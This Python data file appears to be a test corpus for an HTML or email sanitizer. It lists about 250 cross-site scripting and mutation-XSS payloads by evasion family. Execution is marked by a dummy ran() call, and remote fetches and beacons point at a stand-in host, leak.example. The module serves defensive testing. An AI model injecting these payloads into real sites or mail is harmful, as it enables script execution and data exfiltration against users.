"""HTML that means to run something, to fetch something or to look like something else: written by hand, after the families of
filter evasion and mutation that are publicly known. `ran()` is what a test listens for, and leak.example what nobody may ask."""

NAMESPACES = [
    r"<svg></p><style><a id='</style><img src=x onerror=ran()>'>",
    r"<svg><style><img src=x onerror=ran()></style></svg>",
    r"<svg><title><img src=x onerror=ran()></title></svg>",
    r"<svg><desc><table><style><!--</style><img src=x onerror=ran()></table></desc></svg>",
    r"<svg><foreignObject><iframe srcdoc='&lt;script&gt;parent.ran()&lt;/script&gt;'></iframe></foreignObject></svg>",
    r"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=ran()&gt;'>",
    r"<math><mtext><table><mglyph><style><math><table id='</table>'><img src onerror=ran()>'>",
    r"<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>",
    r"<math><annotation-xml encoding='text/html'><style><img src=x onerror=ran()></style></annotation-xml></math>",
    r"<math><annotation-xml encoding='application/xhtml+xml'><svg><style><img src=x onerror=ran()></style></svg></annotation-xml></math>",
    r"<math><mi><mglyph><svg><mtext><style><path id='</style><img onerror=ran() src>'>",
    r"<math><mo><malignmark><style><img src=x onerror=ran()>",
    r"<svg><svg><p><style><g title='</style><img src onerror=ran()>'>",
    r"<svg><annotation-xml><foreignobject><style><!--</style><p id='--!><img src=x onerror=ran()>'>",
    r"<math xlink:href='javascript:ran()'>click</math>",
    r"<svg><a xlink:href='javascript:ran()'><text y=20>click</text></a></svg>",
    r"<svg><script>ran()</script></svg>",
    r"<svg><script href='https://leak.example/a.js'></script></svg>",
    r"<svg><![CDATA[><img src=x onerror=ran()>]]></svg>",
    r"<svg><p><style><![CDATA[</style><img src=x onerror=ran()>]]>",
    r"<math><semantics><annotation-xml><p></semantics><style><a title='</style><img src=x onerror=ran()>'>",
    r"<svg onload=ran()>", r"<svg/onload=ran()//", r"<math><maction actiontype='statusline#x' xlink:href='javascript:ran()'>x</maction></math>",
]

RAW_TEXT = [
    r"<noscript><p title='</noscript><img src=x onerror=ran()>'>", r"<style><p title='</style><img src=x onerror=ran()>'>",
    r"<title><p title='</title><img src=x onerror=ran()>'>", r"<textarea><p title='</textarea><img src=x onerror=ran()>'>",
    r"<xmp><p title='</xmp><img src=x onerror=ran()>'>", r"<noembed><p title='</noembed><img src=x onerror=ran()>'>",
    r"<noframes><p title='</noframes><img src=x onerror=ran()>'>", r"<iframe><p title='</iframe><img src=x onerror=ran()>'>",
    r"<plaintext><img src=x onerror=ran()>", r"<template><img src=x onerror=ran()></template>",
    r"<template shadowrootmode=open><script>ran()</script></template>", r"<template><style></template><img src=x onerror=ran()>",
    r"<listing>&lt;img src=x onerror=ran()&gt;</listing>", r"<xmp></x<b>mp><img src=x onerror=ran()>",
    r"<style></sty<b>le><img src=x onerror=ran()></style>", r"<title></title/><img src=x onerror=ran()>",
    r"<script></scr<x>ipt><img src=x onerror=ran()>", r"<scr<script>ipt>ran()</scr</script>ipt>",
    r"<select><style></select><img src=x onerror=ran()></style>", r"<select><noscript><p title='</noscript></select><script>ran()</script>'>",
]

COMMENTS = [
    r"<!--><img src=x onerror=ran()>-->", r"<!---><img src=x onerror=ran()>-->", r"<!-- --!><img src=x onerror=ran()>-->",
    r"<!--<img src='--><img src=x onerror=ran()//'>", r"<![CDATA[<img src=x onerror=ran()>]]>", r"<?xml version='1.0'?><img src=x onerror=ran()>",
    r"<!DOCTYPE html SYSTEM '><img src=x onerror=ran()>'>", r"<!ENTITY x '<img src=x onerror=ran()>'>", r"</ <img src=x onerror=ran()>>",
    r"<% <img src=x onerror=ran()> %>", r"<!--[if gte IE 4]><script>ran()</script><![endif]-->", r"<!-->--!><script>ran()</script>",
    r"<!doctype><img/src=x/onerror=ran()>",
]

HANDLERS = [
    r"<img src=x onerror=ran()>", r"<IMG SRC=x OnErRoR=ran()>", r"<img src=x onerror = 'ran()'>", r"<img/src='x'onerror=ran()>",
    "<img src=x\x0conerror=ran()>", "<img src=x\nonerror\n=\nran()>", r"<img src=x onerror=&#114;&#97;n()>", r"<img src=x o&#110;error=ran()>",
    r"<body onload=ran()>", r"<body onpageshow=ran()>", r"<html onmouseover=ran()>x", r"<input autofocus onfocus=ran()>",
    r"<details open ontoggle=ran()>x</details>", r"<video src=x onerror=ran()></video>", r"<video><source onerror=ran()></video>",
    r"<audio src=x onerror=ran()>", r"<marquee onstart=ran()>x</marquee>", r"<object data=x onerror=ran()></object>",
    r"<a href=# autofocus tabindex=1 onfocusin=ran()>x</a>", r"<p style='animation: spin 1ms' onanimationstart=ran()>x</p>",
    r"<style>@keyframes k{}</style><p style='animation-name:k' onanimationend=ran()>x</p>", r"<div onwheel=ran() onscrollend=ran()>x</div>",
    r"<button popovertarget=x>x</button><div popover id=x onbeforetoggle=ran()>y</div>", r"<img src=x:x onerror\x00=ran()>",
    r"<table background='javascript:ran()'><tr onclick=ran()><td>x</table>", r"<b/onpointerrawupdate=ran()>x</b>",
    r"<img src=x ''onerror=ran()>", r"<img src=x =onerror=ran()>", r"<img src=x a='`'onerror=ran()`'>", r"<font color='\"'onmouseover=ran()//>x",
]

QUOTES = [
    r"""<img alt="`><img src=x onerror=ran()>`">""", r"""<p title='"><img src=x onerror=ran()>'>x""", r"""<a title="&quot;><img src=x onerror=ran()>">x""",
    r"<img src='x' alt='a&#39; onerror=ran() x=&#39;'>", r"""<img alt='" onerror="ran()'>""", r"<a href='x'title=''onclick=ran()>x</a>",
    r"<img src=`x`onerror=ran()>", r"""<div title="</div><img src=x onerror=ran()>">x</div>""", r"""<pre title="--><script>ran()</script>">x</pre>""",
    r"<img src=\"x\" alt=\"\" onerror=ran() \"\">", r"<a href=\"\"\"<img src=x onerror=ran()>\">x",
    r"""<img src="x` `<script>ran()</script>"` `>""", r"<p align='left\" onmouseover=ran() \"'>x</p>",
]

ADDRESSES = [
    r"<a href='javascript:ran()'>x</a>", r"<a href='JaVaScRiPt:ran()'>x</a>", "<a href='java\tscript:ran()'>x</a>", "<a href='java\nscript:ran()'>x</a>",
    r"<a href='&#106;avascript:ran()'>x</a>", r"<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;ran()'>x</a>",
    "<a href='\x01javascript:ran()'>x</a>", r"<a href='javascript&colon;ran()'>x</a>", r"<a href='java&Tab;script&colon;ran()'>x</a>",
    r"<a href='&NewLine;javascript:ran()'>x</a>", r"<a href='  javascript:ran()'>x</a>", "<a href='\u00a0javascript:ran()'>x</a>",
    r"<a href='javascript://%0aran()'>x</a>", r"<a href='data:text/html,<script>ran()</script>'>x</a>",
    r"<a href='data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg=='>x</a>", r"<a href='vbscript:msgbox(1)'>x</a>",
    r"<a href='blob:null/1'>x</a>", r"<a href='view-source:https://leak.example'>x</a>", r"<a href='feed:javascript:ran()'>x</a>",
    r"<img src='javascript:ran()'>", r"<img src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=ran()>'>",
    r"<img srcset='https://leak.example/1 1x'>", r"<img src='https://leak.example/2'>", r"<img src='//leak.example/3'>",
    r"<img lowsrc='https://leak.example/4' dynsrc='https://leak.example/5'>", r"<picture><source srcset='https://leak.example/6'><img src=x></picture>",
    r"<area href='javascript:ran()' shape=default>", r"<a ping='https://leak.example/7' href='#'>x</a>",
    r"<a href='https:\\leak.example@safe.example'>x</a>", r"<a href='jav&#x0A;ascript:ran()' target=_self>x</a>",
]

CONTAINERS = [
    r"<iframe src='javascript:parent.ran()'></iframe>", r"<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    r"<iframe src='https://leak.example/8'></iframe>", r"<frameset><frame src='javascript:parent.ran()'></frameset>",
    r"<object data='data:text/html,<script>parent.ran()</script>'></object>", r"<object type='text/html' data='https://leak.example/9'></object>",
    r"<embed src='https://leak.example/10'>", r"<applet code='x' archive='https://leak.example/11'></applet>",
    r"<meta http-equiv=refresh content='0;url=javascript:ran()'>", r"<meta http-equiv='refresh' content='0;url=https://leak.example/12'>",
    r"<meta http-equiv='Content-Security-Policy' content='img-src *'>", r"<base href='https://leak.example/'><img src=a>",
    r"<link rel=stylesheet href='https://leak.example/13.css'>", r"<link rel=preload as=image href='https://leak.example/14'>",
    r"<link rel=dns-prefetch href='//leak.example'>", r"<link rel=import href='https://leak.example/15'>",
    r"<portal src='https://leak.example/16'></portal>", r"<fencedframe src='https://leak.example/17'></fencedframe>",
    r"<script src='https://leak.example/18.js'></script>", r"<script type=module>ran()</script>", r"<script>ran()</script>",
    r"<video poster='https://leak.example/19'></video>", r"<audio src='https://leak.example/20' autoplay></audio>",
    r"<video><track src='https://leak.example/21' default></video>", r"<body background='https://leak.example/22'>",
    r"<table background='https://leak.example/23'><tr><td background='https://leak.example/24'>x</table>",
    r"<input type=image src='https://leak.example/25'>", r"<isindex action='javascript:ran()' type=image>",
    r"<bgsound src='https://leak.example/26'>", r"<image src='https://leak.example/27' onerror=ran()>", r"<keygen autofocus onfocus=ran()>",
    r"<dialog open onclose=ran()><form method=dialog><button autofocus>x</button></form></dialog>",
]

DRAWINGS = [
    r"<svg><animate attributeName=href values='javascript:ran()' /></svg>",
    r"<svg><a><animate attributeName=href values='javascript:ran()'/><text y=9>x</text></a></svg>",
    r"<svg><set attributeName=onmouseover to=ran()></svg>", r"<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
    r"<svg><animateTransform onend=ran() attributeName=x dur=1ms></svg>", r"<svg><discard onbegin=ran()></svg>",
    r"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=ran() /></svg>#x'></svg>",
    r"<svg><use href='https://leak.example/28.svg#x'></svg>", r"<svg><image href='https://leak.example/29'></svg>",
    r"<svg><image xlink:href='x' onerror=ran()></svg>", r"<svg><feImage href='https://leak.example/30'></svg>",
    r"<svg><foreignObject><body onload=ran()></foreignObject></svg>", r"<svg><handler xml:id=x>ran()</handler></svg>",
    r"<svg><style>@import 'https://leak.example/31'</style></svg>",
]

STYLES = [
    r"<p style='background:url(https://leak.example/32)'>x</p>", r"<p style='background-image:u\72l(https://leak.example/33)'>x</p>",
    r"<p style='background:image-set(\"https://leak.example/34\" 1x)'>x</p>", r"<style>@import url(https://leak.example/35);</style>",
    r"<style>@font-face{font-family:f;src:url(https://leak.example/36)}p{font-family:f}</style><p>x</p>",
    r"<p style='width:expression(ran())'>x</p>", r"<p style='-moz-binding:url(https://leak.example/37#x)'>x</p>",
    r"<p style='behavior:url(https://leak.example/38)'>x</p>", r"<p style='list-style:url(https://leak.example/39)'>x</p>",
    r"<p style='content:url(https://leak.example/40)'>x</p>", r"<p style='cursor:url(https://leak.example/41),auto'>x</p>",
    r"<p style='--x:url(https://leak.example/42);background:var(--x)'>x</p>", r"<p style='border-image:url(https://leak.example/43) 1'>x</p>",
    r"<p style='color:red;/*x*/background:/**/url(https://leak.example/44)'>x</p>", r"<p style='color:red}</style><img src=x onerror=ran()>'>x</p>",
    r"<p style='filter:url(https://leak.example/45#x)'>x</p>", r"<p style='mask:url(https://leak.example/46)'>x</p>",
    r"<p style='shape-outside:url(https://leak.example/47)'>x</p>", r"<p style='position:fixed;inset:0;z-index:9'>x</p>",
    r"<p style='color: &#92;75rl(https://leak.example/48)'>x</p>", "<p style='background:url\x0c(https://leak.example/49)'>x</p>",
    r"<p style='font-family:\"</style><img src=x onerror=ran()>\"'>x</p>", r"<p style='background:-webkit-cross-fade(url(https://leak.example/50),red)'>x</p>",
]

NESTING = [
    r"<form><form><input name=x></form><img src=x onerror=ran()>", r"<table><form><table></form><img src=x onerror=ran()></table>",
    r"<table><a><table><a><img src=x onerror=ran()>", r"<table><tr><td><table><style></table></style><img src=x onerror=ran()>",
    r"<b><i><p>x</b><img src=x onerror=ran()></i>", r"<a><p><a><img src=x onerror=ran()></p></a>", r"<nobr><nobr><table><nobr><img src=x onerror=ran()>",
    r"<ul><li><ul><p></ul><img src=x onerror=ran()>", r"<p><table><p><img src=x onerror=ran()></table>", r"<font><p></font><img src=x onerror=ran()>",
    "<div>" * 600 + "<img src=x onerror=ran()>", "<div>" * 3000 + "<script>ran()</script>", "<b>" * 400 + "<p>" + "</b>" * 200 + "<img src=x onerror=ran()>",
    "<table>" * 200 + "<img src=x onerror=ran()>", "<svg>" * 300 + "<script>ran()</script>", "<math><mtext>" * 90 + "<style></math><img src=x onerror=ran()>",
    "<form>" * 2 + "<math><mtext></form><form><mglyph>" * 40 + "<style></math><img src onerror=ran()>", "<a href=x>" * 500 + "<img src=x onerror=ran()>",
]

CLOBBERING = [
    r"<form id=ran><input name=attributes><input name=innerHTML><img src=x onerror=ran()></form>", r"<a id=document name=body href='javascript:ran()'>x</a>",
    r"<img name=createElement><img name=getElementById>", r"<form name=cookie><input id=nodeName></form>", r"<a id=ran></a><a id=ran name=x href='cid:ran()'>x</a>",
    r"<form action='javascript:ran()'><button>x</button></form>", r"<button form=f formaction='javascript:ran()'>x</button><form id=f></form>",
    r"<form action='https://leak.example/51'><input name=a autofocus></form>", r"<span class='leads-to'>(banco.example)</span>",
    r"<p class='blocked' id='main'>x</p>", r"<iframe name=top></iframe><embed name=parent>", r"<input form=x name=parentNode><isindex prompt=ran()>",
]

CHARSETS = [
    "<img src=x onerror\x00=ran()>", "<scr\x00ipt>ran()</scr\x00ipt>", "<\x00script>ran()</script>", "<img src='x\x00' onerror='ran()'>",
    r"+ADw-script+AD4-ran()+ADw-/script+AD4-", "\ufeff<script>ran()</script>", r"<meta charset='utf-7'>+ADw-img src=x onerror=ran()+AD4-",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e", "<\u212amg src=x onerror=ran()>", r"<img src=x onerror=\u0072an()>", "<img src=x on\u017frror=ran()>",
    "\x1b$B<script>ran()</script>\x1b(B", "\x1b(J<img alt='\\' src=x onerror=ran()>", "&lt;script&gt;ran()&lt;/script&gt;", "<img src=x onerror=ran()\u2028>",
    "<a href='\u2028javascript:ran()'>x</a>", "\xc0\xbcscript\xc0\xberan()", "&#60script&#62ran()&#60/script&#62", "<script\u0085>ran()</script>",
]

FAMILIES = {
    "namespaces": NAMESPACES, "raw_text": RAW_TEXT, "comments": COMMENTS, "handlers": HANDLERS, "quotes": QUOTES, "addresses": ADDRESSES,
    "containers": CONTAINERS, "drawings": DRAWINGS, "styles": STYLES, "nesting": NESTING, "clobbering": CLOBBERING, "charsets": CHARSETS,
}
# How a mail may say that its HTML is written, which decides what its bytes become.
DECLARED = ["utf-8", "utf-7", "utf-16le", "iso-2022-jp", "windows-1252", "x-unknown", "replacement"]
